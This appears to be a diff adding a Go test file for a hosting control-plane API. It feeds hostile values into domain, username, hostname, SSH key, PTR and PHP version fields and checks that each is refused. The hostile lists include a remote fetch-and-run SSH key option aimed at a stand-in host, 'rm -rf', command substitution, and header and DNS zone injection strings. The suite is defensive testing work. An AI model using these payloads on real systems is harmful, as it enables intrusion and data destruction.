@@ -1,0 +1,325 @@
+package audit
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hostplane/hostplane/pkg/api"
+)
+
+// validKey is a real OpenSSH ed25519 public key (ssh-keygen -t ed25519).
+const validKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEL6P6xcEx8Rin3snII2BE9kXbu6DHiO2alXqoX86AQD audit@example"
+
+// hostileDomains are names that must never become a vhost, a certificate
+// request or a file name: each is a 400 naming the field.
+var hostileDomains = []string{
+	"Shop.Example.com", "shop.example.com.", "shop..example.com", ".shop.example.com", "*.example.com", "_dmarc.example.com",
+	strings.Repeat("a", 64) + ".com", strings.Repeat("abcdefghi.", 26) + "com", "shop.example.com\r\nX-Injected: 1",
+	"shop\".example.com", "shop'.example.com", "shop;id.example.com", "shop{}.example.com", "${IFS}.example.com", "$(id).example.com",
+	"shop\x00.example.com", "%2e%2e.example.com", "../etc.example.com", "shop/x.example.com", "shop\\x.example.com",
+	"shop example.com", "sh\u200bop.example.com", "shop\u3002example.com", "p\u0430ypal.com", "\u202emoc.example.com",
+	"xn--.example.com", "xn--zz-.example.com", "ab--cd.example.com", "192.0.2.1", "[::1]", "localhost", "example.123",
+	"-shop.example.com", "shop-.example.com", "\uff53hop.example.com",
+}
+
+// hostilePTRs are PTR targets refused the same way (PTR values reach a DNS
+// zone file).
+var hostilePTRs = []string{
+	"Mail.example.com", "mail..example.com", "mail.example.com..", "*.example.com", "_x.example.com", "mail example.com",
+	"mail.example.com;rm", "mail\".example.com", "mail.example.com\n", "mail.example.com\r\nX: y", strings.Repeat("a", 64) + ".com",
+	strings.Repeat("abcdefghi.", 26) + "com", "mail", "-mail.example.com", "m\u0430il.example.com", "mail.example.com\x00",
+	"$(id).example.com", "%2e%2e.example.com", "mail.example.com. IN A 192.0.2.1",
+}
+
+// hostileHostnames are server host names (they become the guest's hostname
+// through cloud-init and the libvirt domain's metadata).
+var hostileHostnames = []string{
+	"Web-1", "web_1", "web..1", "-web", "web-", strings.Repeat("a", 64), strings.Repeat("abcdefghi.", 26) + "com",
+	"web;id", "web\n1", "web 1", "w\u00e9b", "$(id)", "{web}", "web'1", "web\"1", "web\x00", "%2e%2e", "..", ".",
+}
+
+// hostileSSHKeys are ssh_keys entries: options in front of the key
+// (command="..."), a second line, NUL, and keys that only look like keys
+// (the agent refuses them when it writes authorized_keys, after the order
+// has been charged).
+var hostileSSHKeys = []string{
+	`command="curl evil.example|sh" ` + validKey,
+	`no-pty,from="*" ` + validKey,
+	validKey + "\nssh-rsa AAAAB3NzaC1yc2E",
+	validKey + "\r\ncommand=\"id\" " + validKey,
+	validKey + "\x00",
+	"ssh-ed25519",
+	"ssh-ed25519 AAAA",
+	"ssh-ed25519 not*base64!! x@y",
+	"ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIEL6P6xcEx8Rin3snII2BE9kXbu6DHiO2alXqoX86AQD type-mismatch",
+	"ssh-dss AAAAB3NzaC1kc3MAAACBAP1",
+	"sk-x",
+	"ecdsa-sha2-nistp256 $(id)",
+}
+
+// hostileUsernames become a system user, a home directory and a PHP-FPM
+// pool: a 400 naming username.
+var hostileUsernames = []string{
+	"Root", "root", "www", "ab", strings.Repeat("a", 17), "shop;id", "../x", "shop\n", "1shop", "shop-a", "shop_a", "sh op",
+	"\u00fcser", "shop$", "shop\x00", "shop.a", "%2e%2e",
+}
+
+// hostilePHP are php_version values (a PHP-FPM binary and socket path).
+var hostilePHP = []string{"8.2;id", "8.2\n", "../8.2", "8", "8.2.1", "10.0", "8.2 ", " 8.2", "${IFS}", "8.2/../../x", "8.2\x00", "８.2", "4.4"}
+
+// TestHostileInputOutsideIn sends, as a customer's client would, hostile
+// strings into every field that ends up in configuration (a hosting
+// account's domain, username and PHP version, a custom domain, a server's
+// host name and SSH keys, a reinstall's SSH keys, a PTR name): each is a 400
+// whose message names the field, through a follower, and afterwards GETs show
+// nothing changed and the account was charged nothing. Fields that are only
+// data (a server label set with PATCH, a webhook description) keep shell,
+// template and markup characters verbatim; control characters there are a
+// 400 too, and an order's label follows the PATCH label's rule.
+func TestHostileInputOutsideIn(t *testing.T) {
+	r := newRig(t)
+	if _, err := r.c.AnyAlive(nil).Admin().CreateIPPool(r.ctx, api.IPPoolCreateRequest{Name: "pub4", CIDR: "198.51.100.0/24", Gateway: "198.51.100.1"}); err != nil {
+		t.Fatal(err)
+	}
+	r.c.Credit(r.ctx, r.accA.ID, serverPrice+hostingPrice+domainPrice+5000)
+	own := r.buy()
+	if own.serverIP == "192.0.2.10" {
+		t.Fatalf("A's server got no address from the pool")
+	}
+	f := r.follower()
+	before := r.charged(r.keyA)
+	get := func(path string) string {
+		t.Helper()
+		rep := r.call(0, r.keyA, "GET", path, nil, nil)
+		if rep.Status != 200 && rep.Status != 404 {
+			t.Fatalf("%s", rep)
+		}
+		if rep.Status == 404 {
+			return "404 " + rep.Code()
+		}
+		return string(rep.Body)
+	}
+	views := []string{"/v1/servers/" + own.server, "/v1/servers/" + own.server + "/ips", "/v1/hosting/" + own.hosting,
+		"/v1/hosting/" + own.hosting + "/custom-domain", "/v1/webhooks/" + own.webhook}
+	snapshot := func() map[string]string {
+		m := map[string]string{}
+		for _, v := range views {
+			m[v] = get(v)
+		}
+		return m
+	}
+	seen := snapshot()
+
+	refused := func(t *testing.T, method, path, field string, body any) {
+		t.Helper()
+		rep := r.call(f, r.keyA, method, path, body, nil)
+		var e api.Error
+		_ = json.Unmarshal(rep.Body, &e)
+		if rep.Status != 400 || e.StatusCode != 400 || !strings.Contains(e.Message, `"`+field+`"`) {
+			b, _ := json.Marshal(body)
+			t.Errorf("%s %s %s: %d %.300s; want 400 naming %q", method, path, b, rep.Status, rep.Body, field)
+		}
+	}
+
+	t.Run("config strings are refused", func(t *testing.T) {
+		for _, d := range hostileDomains {
+			b := hostingBody("shopz")
+			b["domain"] = d
+			refused(t, "POST", "/v1/hosting", "domain", b)
+			refused(t, "PUT", "/v1/hosting/"+own.hosting+"/custom-domain", "domain", map[string]any{"domain": d})
+		}
+		for _, u := range hostileUsernames {
+			b := hostingBody("shopz")
+			b["username"] = u
+			refused(t, "POST", "/v1/hosting", "username", b)
+		}
+		for _, p := range hostilePHP {
+			b := hostingBody("shopz")
+			b["php_version"] = p
+			refused(t, "POST", "/v1/hosting", "php_version", b)
+			refused(t, "PUT", "/v1/hosting/"+own.hosting+"/php", "php_version", map[string]any{"php_version": p})
+		}
+		for _, h := range hostileHostnames {
+			b := serverBody("web-9")
+			b["hostname"] = h
+			refused(t, "POST", "/v1/servers", "hostname", b)
+		}
+		for _, k := range hostileSSHKeys {
+			b := serverBody("web-9")
+			b["ssh_keys"] = []string{validKey, k}
+			refused(t, "POST", "/v1/servers", "ssh_keys[1]", b)
+			refused(t, "POST", "/v1/servers/"+own.server+"/reinstall", "ssh_keys[0]", map[string]any{"osTemplate": "base", "ssh_keys": []string{k}})
+		}
+		for _, p := range hostilePTRs {
+			refused(t, "PUT", "/v1/servers/"+own.server+"/ips/"+own.serverIP+"/ptr", "hostname", map[string]any{"hostname": p})
+		}
+		// An order's label follows the rule of PATCH /v1/servers/:id/label:
+		// printable characters only (no line breaks, C1 controls or
+		// bidirectional overrides that rewrite how a listing reads).
+		for _, l := range []string{"web\r\n1", "web\n1", "web\u0085x", "web\u009b31m", "\u202egnp.exe", "web\u200b1"} {
+			b := serverBody("web-9")
+			b["label"] = l
+			refused(t, "POST", "/v1/servers", "label", b)
+			refused(t, "PATCH", "/v1/servers/"+own.server+"/label", "label", map[string]any{"label": l})
+		}
+		for _, d := range []string{"a\x00b", "a\x1b[31mb", "a\x7fb"} {
+			refused(t, "PATCH", "/v1/webhooks/"+own.webhook, "description", map[string]any{"description": d})
+		}
+		if after := r.charged(r.keyA); after != before {
+			t.Errorf("refused bodies changed A's account: %+v → %+v", before, after)
+		}
+		for v, was := range seen {
+			if now := get(v); now != was {
+				t.Errorf("GET %s changed after refused bodies:\n was %.400s\n now %.400s", v, was, now)
+			}
+		}
+	})
+
+	t.Run("data strings are kept verbatim", func(t *testing.T) {
+		for _, s := range []string{`"; rm -rf / #`, "$(id) ${IFS} `id`", "{{.Secret}} {% x %} <script>alert(1)</script>", "ünïcödé – 日本 🚀", `C:\x\..\..`, "%2e%2e/%00"} {
+			if rep := r.call(f, r.keyA, "PATCH", "/v1/servers/"+own.server+"/label", map[string]any{"label": s}, nil); rep.Status != 200 {
+				t.Errorf("label %q: %s", s, rep)
+				continue
+			}
+			var sv api.Server
+			r.call(0, r.keyA, "GET", "/v1/servers/"+own.server, nil, nil).Decode(t, &sv)
+			if sv.Label != s {
+				t.Errorf("label %q read back as %q", s, sv.Label)
+			}
+			d := s + "\nsecond line\ttab"
+			if rep := r.call(f, r.keyA, "PATCH", "/v1/webhooks/"+own.webhook, map[string]any{"description": d}, nil); rep.Status != 200 {
+				t.Errorf("description %q: %s", d, rep)
+				continue
+			}
+			var wh api.Webhook
+			r.call(0, r.keyA, "GET", "/v1/webhooks/"+own.webhook, nil, nil).Decode(t, &wh)
+			if wh.Description != d {
+				t.Errorf("description %q read back as %q", d, wh.Description)
+			}
+		}
+		if after := r.charged(r.keyA); after != before {
+			t.Errorf("label and description edits changed A's account: %+v → %+v", before, after)
+		}
+	})
+
+	t.Run("paging and amounts", func(t *testing.T) {
+		for _, list := range []string{"/v1/billing/invoices", "/v1/billing/wallet/transactions"} {
+			for _, q := range []string{"page=9223372036854775807&limit=200", "page=1000001", "limit=1e2", "limit=0x10", "limit=%00", "limit=5%20", "page=1.5",
+				"page=" + strings.Repeat("9", 400)} {
+				rep := r.call(f, r.keyA, "GET", list+"?"+q, nil, nil)
+				param, _, _ := strings.Cut(q, "=")
+				if rep.Status != 400 || !strings.Contains(string(rep.Body), param) {
+					t.Errorf("GET %s?%s: %d %.300s, want 400 naming %s", list, q, rep.Status, rep.Body, param)
+				}
+			}
+			// A cursor is not a parameter: ignored, the first page.
+			var p struct {
+				Page  int `json:"page"`
+				Total int `json:"total"`
+			}
+			rep := r.call(f, r.keyB, "GET", list+"?cursor="+own.invoice, nil, nil)
+			rep.Decode(t, &p)
+			if rep.Status != 200 || p.Total != 0 || strings.Contains(string(rep.Body), own.invoice) {
+				t.Errorf("B's GET %s?cursor=<A's invoice>: %s", list, rep)
+			}
+		}
+		// Domain years multiply a price: out of range is a 400 naming years,
+		// never an overflowed (negative) charge.
+		for _, y := range []string{"-1", "11", "100", "2147483648", "9223372036854775807", "18446744073709551616", "1.5", "\"1\"", "1e1"} {
+			b, _ := json.Marshal(domainBody("years-audit.test"))
+			body := strings.Replace(string(b), `"years":1`, `"years":`+y, 1)
+			if body == string(b) {
+				t.Fatalf("no years in %s", b)
+			}
+			for _, path := range []string{"/v1/domains", "/v1/domains/quote"} {
+				rep := r.call(f, r.keyA, "POST", path, body, map[string]string{"Content-Type": "application/json"})
+				if rep.Status != 400 || !strings.Contains(string(rep.Body), "years") {
+					t.Errorf("POST %s years=%s: %s, want 400 naming years", path, y, rep)
+				}
+			}
+		}
+		if after := r.charged(r.keyA); after != before {
+			t.Errorf("paging and years probes changed A's account: %+v → %+v", before, after)
+		}
+	})
+
+	t.Run("headers on every answer", func(t *testing.T) {
+		hc := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+		limited, err := r.c.AnyAlive(nil).Admin().CreateKey(r.ctx, r.accA.ID, api.KeyCreateRequest{Scopes: []string{"account:read"}, RateLimitPerMin: 2})
+		if err != nil {
+			t.Fatal(err)
+		}
+		type probe struct {
+			method, path, key, body string
+			status                  int
+			allow                   string
+			noStore                 bool
+		}
+		big := strings.Repeat("x", 2<<20)
+		probes := []probe{
+			{"GET", "/nope", "", "", 404, "", false},
+			{"GET", "/v1/nope", r.keyA, "", 404, "", true},
+			{"GET", "/v1/nope", "", "", 404, "", true},
+			{"DELETE", "/v1/billing/wallet", r.keyA, "", 405, "GET", true},
+			{"PUT", "/v1/account", r.keyA, "{}", 405, "GET", true},
+			{"POST", "/v1/billing/invoices/" + own.invoice, r.keyA, "{}", 405, "GET", true},
+			{"GET", "/v1/account", "", "", 401, "", true},
+			{"GET", "/v1/account", "snc_not-a-key", "", 401, "", true},
+			{"GET", "/v1/servers", limited.Key, "", 403, "", true},
+			{"POST", "/v1/tickets", r.keyA, `{"subject":"x","message":"` + big + `"}`, 413, "", true},
+			{"GET", "/v1/billing/wallet", r.keyA, "", 200, "", true},
+			{"POST", "/v1/servers/" + own.server + "/password-reset", r.keyA, "{}", 0, "", true},
+			{"POST", "/v1/servers/" + own.server + "/console", r.keyA, "{}", 0, "", true},
+			{"POST", "/v1/account/api-keys", r.keyA, `{"name":"hdr","scopes":["account:read"]}`, 0, "", true},
+		}
+		for i := 0; i < 4; i++ {
+			probes = append(probes, probe{"GET", "/v1/account", limited.Key, "", 0, "", true})
+		}
+		saw429 := false
+		for _, p := range probes {
+			for _, i := range []int{f, (f + 1) % 3} {
+				req, err := http.NewRequestWithContext(r.ctx, p.method, r.c.URL(i)+p.path, strings.NewReader(p.body))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if p.key != "" {
+					req.Header.Set("Authorization", "Bearer "+p.key)
+				}
+				if p.body != "" {
+					req.Header.Set("Content-Type", "application/json")
+				}
+				resp, err := hc.Do(req)
+				if err != nil {
+					t.Fatal(err)
+				}
+				_, _ = io.Copy(io.Discard, resp.Body)
+				resp.Body.Close()
+				h := resp.Header
+				what := fmt.Sprintf("%s %s on coordinator %d → %d", p.method, p.path, i, resp.StatusCode)
+				if resp.StatusCode == 429 {
+					saw429 = true
+				}
+				if p.status != 0 && resp.StatusCode != p.status {
+					t.Errorf("%s, want %d", what, p.status)
+				}
+				if h.Get("X-Request-Id") == "" || h.Get("X-Content-Type-Options") != "nosniff" {
+					t.Errorf("%s: X-Request-Id %q, X-Content-Type-Options %q", what, h.Get("X-Request-Id"), h.Get("X-Content-Type-Options"))
+				}
+				if p.allow != "" && !strings.Contains(h.Get("Allow"), p.allow) {
+					t.Errorf("%s: Allow %q, want it to list %s", what, h.Get("Allow"), p.allow)
+				}
+				if p.noStore && !strings.Contains(h.Get("Cache-Control"), "no-store") {
+					t.Errorf("%s: Cache-Control %q, want no-store", what, h.Get("Cache-Control"))
+				}
+			}
+		}
+		if !saw429 {
+			t.Errorf("a key limited to 2 a minute was never answered 429 in 8 calls")
+		}
+	})
+}
